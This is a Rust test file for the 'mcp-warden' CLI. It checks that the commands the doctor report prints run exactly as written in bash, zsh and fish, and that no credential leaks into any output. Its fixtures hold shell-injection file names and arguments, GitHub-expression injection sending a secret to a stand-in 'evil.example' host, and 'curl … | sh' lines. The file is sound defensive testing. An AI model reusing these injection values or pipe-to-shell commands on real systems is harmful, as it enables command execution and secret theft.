//! What doctor prints for a person to paste or commit is inert and holds no secret.
//!
//! * Every command-shaped text of the text report, the JSONL and the SARIF — each
//!   line that starts with `mcp-warden`, and each `(mcp-warden …)` hint inside a
//!   message — is run through bash (and zsh and fish when installed) with a stub
//!   `mcp-warden` on PATH: the stub must run exactly once, with the argv the line
//!   says, and nothing else may happen (no file appears anywhere in the test tree).
//!   The configs and lock file names carry shell metacharacters, command
//!   substitutions, quotes, globs, leading dashes and GitHub expressions.
//! * No credential from a config reaches any channel: stdout, stderr, JSONL, SARIF,
//!   Next steps, the CI snippet, `auth audit`, `doctor --pin` failure lines, `pin`
//!   and `check` errors — whatever the credential's word shape.
//! * The CI snippet parses as YAML, no `run:` holds `${{`, the only `${{` of an
//!   `env:` value is a whole `${{ secrets.NAME }}` of a plain name, and it installs
//!   this package at this version.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::json;

use crate::util::*;

/// Every path below `root`, for "nothing else was created" checks.
fn tree(root: &Path) -> BTreeSet<PathBuf> {
    let mut out = BTreeSet::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if entry.file_type().is_ok_and(|t| t.is_dir()) {
                stack.push(path.clone());
            }
            out.insert(path);
        }
    }
    out
}

/// A stub `mcp-warden` that appends one NUL-separated argv record (ended by a
/// newline) to `$ARGV_OUT` per call.
fn stub(dir: &Path) {
    let script = dir.join("mcp-warden");
    std::fs::write(
        &script,
        "#!/bin/sh\nfor a in \"$@\"; do printf '%s\\0' \"$a\"; done >> \"$ARGV_OUT\"\nprintf '\\n' >> \"$ARGV_OUT\"\n",
    )
    .expect("stub");
    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("chmod");
}

fn shell_available(shell: &str) -> bool {
    Command::new(shell)
        .args(["-c", "true"])
        .status()
        .is_ok_and(|s| s.success())
}

/// Run `line` in `shell` in `cwd`; the argv records the stub received. The shell
/// gets a scratch home of its own (fish writes its config there).
fn paste(shell: &str, line: &str, cwd: &Path, stub_dir: &Path) -> Vec<Vec<String>> {
    let scratch = tempfile::tempdir().expect("tempdir");
    let out = scratch.path().join("argv");
    let home = scratch.path().join("home");
    let path = format!("{}:/usr/bin:/bin", stub_dir.display());
    let _ = Command::new(shell)
        .arg("-c")
        .arg(line)
        .current_dir(cwd)
        .env_clear()
        .env("PATH", path)
        .env("HOME", &home)
        .env("XDG_CONFIG_HOME", &home)
        .env("XDG_DATA_HOME", &home)
        .env("ARGV_OUT", &out)
        .output()
        .expect("run shell");
    let text = std::fs::read(&out).unwrap_or_default();
    text.split(|&b| b == b'\n')
        .filter(|r| !r.is_empty())
        .map(|r| {
            r.split(|&b| b == 0)
                .filter(|w| !w.is_empty())
                .map(|w| String::from_utf8_lossy(w).into_owned())
                .collect()
        })
        .collect()
}

/// Command-shaped pieces of one printed text: every line that starts with
/// `mcp-warden `, and every `(mcp-warden …)` hint, without its parentheses. A hint
/// is also kept with everything after it (its closing parenthesis, a SARIF text's
/// `[snippet]`), marked by a leading [`TRAILING`]: pasted like that, nothing may run.
fn commands_in(text: &str, out: &mut Vec<String>) {
    for line in text.lines() {
        let t = line.trim();
        if t.starts_with("mcp-warden ") {
            out.push(t.to_string());
        }
        if let Some(start) = t.find("(mcp-warden ") {
            let inner = &t[start + 1..];
            let end = inner.rfind(')').unwrap_or(inner.len());
            out.push(inner[..end].to_string());
            // Whatever follows the hint in a SARIF text must not run either.
            out.push(format!("{TRAILING}{inner}"));
        }
    }
}

const TRAILING: &str = "\u{0}trailing:";

/// Lock file names that a cloned repository could ship: each becomes the `lock
/// rotate` hint of an unapproved-lock finding.
const HOSTILE_LOCK_NAMES: &[&str] = &[
    "x;touch $HOME$(id>P);#.warden.lock",
    "a`touch P`.warden.lock",
    "$(touch P).warden.lock",
    "it's;touch P.warden.lock",
    "a b|touch P&.warden.lock",
    "-rf;touch P.warden.lock",
    "x\"; touch P; \".warden.lock",
    "*.warden.lock",
    "!!;touch P.warden.lock",
    "${{ github.token }}.warden.lock",
    "a\\';touch P;\\'.warden.lock",
    "\u{202e}kcol.warden.lock",
    "tab\there;touch P.warden.lock",
];

fn hostile_home(env: &Env) {
    // User-level servers, each matched by one unapproved lock with a hostile name.
    let mut servers = serde_json::Map::new();
    for (i, name) in HOSTILE_LOCK_NAMES.iter().enumerate() {
        let args = [format!("s{i}.js")];
        servers.insert(format!("s{i}"), json!({"command": "node", "args": args}));
        let arg = args[0].as_str();
        env.write(
            &format!("work/{name}"),
            lock_for(
                json!({"command": "node", "args": [arg], "url": null}),
                false,
            )
            .to_string(),
        );
    }
    // One in a hostile directory name too.
    servers.insert(
        "deep".into(),
        json!({"command": "node", "args": ["deep.js"]}),
    );
    env.write(
        "work/d;touch P/x.warden.lock",
        lock_for(
            json!({"command": "node", "args": ["deep.js"], "url": null}),
            false,
        )
        .to_string(),
    );
    servers.insert(
        "plain".into(),
        json!({"command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory@2026.1.26"]}),
    );
    env.cursor(serde_json::Value::Object(servers));
    // A repository's project config with hostile names and words.
    env.write(
        "work/.mcp.json",
        json!({"mcpServers": {
            "$(touch P)": {"command": "node", "args": ["a;touch P", "`touch P`", "$(touch P)"]},
            "x'; touch P; '": {"command": "sh", "args": ["-c", "curl https://x.example/i | sh"]},
            "gh-expr": {"command": "npx", "args": ["-y", "pkg@1.0.0", "${{ github.event.head_commit.message }}"]},
            "url-expr": {"url": "https://evil.example/mcp?q=${{ secrets.AWS_SECRET_ACCESS_KEY }}"},
            "-dash": {"command": "-x", "args": ["--lock", "y", "--approve"]},
            "glob*": {"command": "node", "args": ["*", "?", "[a]", "~", "~root", "=ls", "%self"]},
            // Words that only a client's expansion makes hostile (Claude Code applies
            // the defaults; VS Code's reader keeps them literally: two readings).
            "exp": {"command": "${R:-node}", "args": ["${A:-$(touch P)}", "${B:-a;touch P}", "${C:-`touch P`}"]},
            // Env keys and headers become `--env NAME` and `--header '…'`: hostile
            // names are left out, hostile values quoted or withheld.
            "envs": {"command": "node", "args": ["e.js"], "env": {
                "OK_NAME": "v", "$(touch P)": "1", "X;touch P": "1", "--lock": "x", "A B": "1",
                "MCP_WARDEN_ARG_0": "x", "on": "1"}},
            "hdrs": {"url": "https://h.example/mcp", "headers": {
                "X-Api-Key": "${FM_KEY}", "X-Q": "a'b;$(touch P)`touch P`", "X`touch P`": "v",
                "X-Expr": "${{ secrets.AWS_SECRET_ACCESS_KEY }}", "Authorization": "Bearer ${T} x"}},
            // A command beside a URL: a stdio and a `#url` reading, each pinned.
            "both": {"command": "node", "args": ["'; touch P; '"], "url": "https://x.example/a;touch%20P?x=$(touch P)"},
        }})
        .to_string(),
    );
}

#[test]
fn every_command_shaped_text_runs_exactly_what_it_says() {
    let env = Env::new();
    hostile_home(&env);
    let sarif = env.root().join("out/doctor.sarif");
    std::fs::create_dir_all(sarif.parent().expect("parent")).expect("mkdir");
    let text = env.doctor(&["--sarif", sarif.to_str().expect("utf-8")]);
    let jsonl = env.doctor(&["--json"]);
    assert!(text.stdout.contains("Next steps"), "{}", text.stdout);
    let unapproved = jsonl
        .jsonl()
        .iter()
        .filter(|r| r["rule_id"] == "WRD-DOCTOR-LOCK-UNAPPROVED")
        .count();
    assert_eq!(unapproved, HOSTILE_LOCK_NAMES.len() + 1, "{}", jsonl.stdout);

    let mut commands = Vec::new();
    commands_in(&text.stdout, &mut commands);
    commands_in(&text.stderr, &mut commands);
    for record in jsonl.jsonl() {
        for field in ["message", "snippet", "target"] {
            commands_in(record[field].as_str().unwrap_or_default(), &mut commands);
        }
    }
    let log: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&sarif).expect("sarif")).expect("json");
    for result in log["runs"][0]["results"].as_array().expect("results") {
        commands_in(
            result["message"]["text"].as_str().unwrap_or_default(),
            &mut commands,
        );
    }
    for rule in log["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .expect("rules")
    {
        for field in ["fullDescription", "help", "shortDescription"] {
            commands_in(
                rule[field]["text"].as_str().unwrap_or_default(),
                &mut commands,
            );
        }
    }
    // Every unapproved lock whose path prints exactly has a pasteable rotate hint.
    let rotate_hints = commands
        .iter()
        .filter(|c| c.starts_with("mcp-warden lock rotate "))
        .count();
    assert!(rotate_hints >= 3 * 10, "{rotate_hints}: {commands:#?}");

    let stub_dir = tempfile::tempdir().expect("tempdir");
    stub(stub_dir.path());
    let locks: BTreeSet<PathBuf> = tree(&env.work())
        .into_iter()
        .filter(|p| p.to_string_lossy().ends_with(".warden.lock"))
        .collect();
    let pinned: BTreeSet<String> = commands
        .iter()
        .filter(|c| c.starts_with("mcp-warden pin "))
        .filter_map(|c| c.split(" --lock ").nth(1))
        .filter_map(|rest| rest.split_whitespace().next())
        .map(String::from)
        .collect();
    let before = tree(env.root());
    let mut shells = 0;
    for shell in ["bash", "zsh", "fish"] {
        if !shell_available(shell) {
            assert_ne!(shell, "bash", "bash is required");
            eprintln!("skipping {shell}: not installed");
            continue;
        }
        shells += 1;
        for command in &commands {
            let trailing = command.strip_prefix(TRAILING);
            let command = trailing.unwrap_or(command);
            let calls = paste(shell, command, &env.work(), stub_dir.path());
            assert_eq!(
                tree(env.root()),
                before,
                "{shell}: pasting {command:?} created files"
            );
            if trailing.is_some() {
                // The hint with the text after it: a syntax error, nothing runs.
                assert!(calls.is_empty(), "{shell}: {command:?} ran {calls:?}");
                continue;
            }
            assert_eq!(calls.len(), 1, "{shell}: {command:?} ran {calls:?}");
            let argv = &calls[0];
            match argv.first().map(String::as_str) {
                Some("pin") | Some("check") => {}
                Some("lock") => {
                    assert_eq!(argv.len(), 5, "{shell}: {command:?} -> {argv:?}");
                    assert_eq!(argv[1], "rotate");
                    assert_eq!(argv[3..], ["--approver", "you@example.com"], "{argv:?}");
                    // An existing lock, or one a printed pin line writes.
                    let path = env.work().join(&argv[2]);
                    let path = path.canonicalize().unwrap_or(path);
                    assert!(
                        locks
                            .iter()
                            .any(|l| l.canonicalize().ok().as_ref() == Some(&path))
                            || pinned.contains(&argv[2]),
                        "{shell}: {command:?} names {:?}, not a lock",
                        argv[2]
                    );
                }
                _ => panic!("{shell}: {command:?} ran mcp-warden {argv:?}"),
            }
        }
    }
    assert!(shells >= 1);
}

/// A secret in every word shape a config can carry it in.
const SECRET: &str = "Sup3rS3cretPw9";

fn credential_home(env: &Env) -> PathBuf {
    let s = SECRET;
    let servers = json!({
        "db": {"command": "npx", "args": ["-y", "@x/db@1.0.0", format!("--db=postgres://admin:{s}@db/prod")]},
        "my": {"command": "node", "args": ["s.js", format!("DATABASE_URL=mysql://root:{s}@host/x")]},
        "js": {"command": "node", "args": ["s.js", "--config", format!(r#"{{"url":"postgres://u:{s}@h/x"}}"#)]},
        "jsdeep": {"command": "node", "args": ["s.js", format!(r#"[{{"a":{{"b":["redis://:{s}@cache:6379"]}}}}]"#)]},
        "sh": {"command": "sh", "args": ["-c", format!("curl -H 'Authorization: Bearer {s}' https://x.example/i | sh")]},
        "pg": {"command": "sh", "args": ["-c", format!("PGPASSWORD={s} psql -h db")]},
        "flag": {"command": "sh", "args": ["-c", format!("tool --token {s} --verbose")]},
        "nested": {"command": "bash", "args": ["-c", format!("sh -c \"srv --api-key={s}\"")]},
        "hdr": {"command": "npx", "args": ["-y", "mcp-remote@0.1.0", "https://h.example/mcp", "--header", format!("X-Api-Key:{s}")]},
        "cmd": {"command": format!("https://git:{s}@github.com/o/r.git"), "args": [format!("git+https://git:{s}@github.com/o/r.git")]},
        "url": {"url": format!("https://user:{s}@h.example/mcp")},
        "urlq": {"url": format!("https://h.example/mcp?x=1&password={s}")},
        "urlnext": {"url": format!("https://h.example/mcp?next=postgres://a:{s}@db")},
        "env": {"command": "node", "args": ["s.js"], "env": {"API_TOKEN": s, "DSN": format!("postgres://a:{s}@db")}},
        "headers": {"url": "https://h.example/mcp", "headers": {"Authorization": format!("Bearer {s}"), "X-Other": format!("k={s}")}},
        "curl": {"command": "sh", "args": ["-c", format!("curl -u admin:{s} https://x.example/a && curl --user=b:{s} -H 'Cookie: session={s}' https://x.example/b")]},
        "basic": {"command": "sh", "args": ["-c", format!("wget --header='Authorization: Basic {s}' -O- https://x.example/c")]},
        "flagged": {"command": "node", "args": ["s.js", "--client-secret", s, format!("--api-key={s}"), "-u", format!("me:{s}")]},
    });
    env.cursor(servers.clone());
    env.write("work/.mcp.json", json!({"mcpServers": servers}).to_string())
}

#[test]
fn no_credential_reaches_any_output_channel() {
    let env = Env::new();
    let project = credential_home(&env);
    let sarif = env.root().join("doctor.sarif");
    let mut outputs = Vec::new();
    let text = env.doctor(&["--sarif", sarif.to_str().expect("utf-8")]);
    assert!(text.stdout.contains("Next steps"), "{}", text.stdout);
    outputs.push(("doctor", text.all()));
    outputs.push(("doctor --json", env.doctor(&["--json"]).all()));
    outputs.push(("sarif", std::fs::read_to_string(&sarif).expect("sarif")));
    let project = project.to_str().expect("utf-8");
    for args in [
        vec!["auth", "audit", project],
        vec!["auth", "audit", "--json", project],
    ] {
        let out = env.command(&args).output().expect("run");
        outputs.push(("auth audit", Run::from(out).all()));
    }
    // Spawning is refused or fails for every server here; each line it prints about
    // a server goes through the same redaction.
    let missing = env.write(
        "pinme.json",
        json!({"mcpServers": {
            "m": {"command": "no-such-cmd", "args": ["--token", SECRET, format!("--db=postgres://a:{SECRET}@h")]},
            "u": {"url": format!("http://127.0.0.1:9/mcp?token={SECRET}")}
        }})
        .to_string(),
    );
    let pin = env.doctor(&[
        "--config",
        missing.to_str().expect("utf-8"),
        "--no-discover",
        "--pin",
        "--yes",
        "--timeout",
        "2",
    ]);
    assert_eq!(pin.code, 2, "{}", pin.all());
    outputs.push(("doctor --pin", pin.all()));
    for args in [
        vec![
            "pin",
            "--lock",
            "x.warden.lock",
            "--",
            "no-such-cmd",
            "--token",
            SECRET,
        ],
        vec![
            "check",
            "--lock",
            "x.warden.lock",
            "--",
            "no-such-cmd",
            &format!("--db=postgres://a:{SECRET}@h"),
        ],
    ] {
        let out = env.command(&args).output().expect("run");
        outputs.push(("pin/check", Run::from(out).all()));
    }
    for (what, output) in &outputs {
        assert!(
            !output.contains(SECRET),
            "{what} printed the secret:\n{output}"
        );
    }
}

#[test]
fn the_ci_snippet_from_the_binary_holds_no_expression_and_installs_this_version() {
    use yaml_rust2::YamlLoader;
    let env = Env::new();
    hostile_home(&env);
    credential_home(&env);
    let run = env.doctor(&[]);
    let start = run
        .stdout
        .find("# .github/workflows/")
        .unwrap_or_else(|| panic!("no snippet:\n{}", run.stdout));
    // The report's summary follows the snippet.
    let end = run.stdout.rfind("\nSummary:").unwrap_or(run.stdout.len());
    let snippet = &run.stdout[start..end];
    // The only expressions are the snippet's own secret references.
    let secret_ref =
        regex::Regex::new(r"^\$\{\{ secrets\.[A-Za-z_][A-Za-z0-9_]* \}\}$").expect("regex");
    let docs = YamlLoader::load_from_str(snippet).unwrap_or_else(|e| panic!("{e}\n{snippet}"));
    let steps = docs[0]["jobs"]["mcp-check"]["steps"]
        .as_vec()
        .unwrap_or_else(|| panic!("steps:\n{snippet}"));
    assert_eq!(
        steps[1]["run"].as_str(),
        Some(
            format!(
                "cargo install mcp-warden-cli --locked --version ={}",
                env!("CARGO_PKG_VERSION")
            )
            .as_str()
        )
    );
    assert!(steps.len() > 10, "{snippet}");
    for step in steps {
        let run = step["run"].as_str().unwrap_or_default();
        assert!(!run.contains("${{") && !run.contains(SECRET), "{run}");
        if let Some(env) = step["env"].as_hash() {
            for (_, v) in env {
                let v = v.as_str().unwrap_or_default();
                assert!(!v.contains(SECRET), "{v}");
                assert!(!v.contains("${{") || secret_ref.is_match(v), "{v}");
            }
        }
    }
}
